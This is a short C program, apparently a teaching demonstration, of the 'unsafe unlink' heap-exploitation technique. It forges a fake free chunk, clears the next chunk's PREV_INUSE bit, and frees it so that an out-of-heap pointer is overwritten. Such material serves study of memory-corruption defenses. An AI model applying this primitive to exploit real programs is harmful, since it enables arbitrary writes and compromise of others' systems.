/*
 * unsafe_unlink: a false free chunk inside a block, with links to the pointer
 * that leads there, and an overflow that makes the next chunk believe in it.
 */
#include "technique.h"

static void *kept[8];

int main(void)
{
    void *a = malloc(CHUNKED);
    void *b = malloc(CHUNKED);
    malloc(CHUNKED);
    void *before = kept[4] = a;
    uint64_t size = size_of(a) - 16;
    *word_of(a, 0) = 0;
    *word_of(a, 1) = *size_word(a) >> 32 << 32 | size | PREV_INUSE | IS_FREE;
    *word_of(a, 2) = (uintptr_t)&kept[1];
    *word_of(a, 3) = (uintptr_t)&kept[2];
    *prev_size(b) = size;
    forge_low(b, low_of(b) & ~(uint32_t)PREV_INUSE);
    free_for_good(b);
    if (kept[4] != before) {
        succeeds("a pointer outside of the heap has changed");
    }
    grab(CHUNKED, a, CHUNKED);
    fails();
}
